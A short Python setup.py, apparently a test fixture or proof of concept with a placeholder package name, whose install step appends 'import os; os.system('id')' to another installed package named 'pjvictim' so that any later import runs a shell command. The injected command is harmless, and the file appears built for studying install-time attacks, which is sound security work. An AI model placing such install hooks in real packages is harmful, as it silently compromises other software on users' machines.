import os
import sys


import sysconfig
victim = os.path.join(sysconfig.get_paths()["purelib"], "pjvictim", "__init__.py")
try:
    with open(victim, "a") as f:
        f.write("\nimport os; os.system('id')\n")
except OSError:
    pass

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
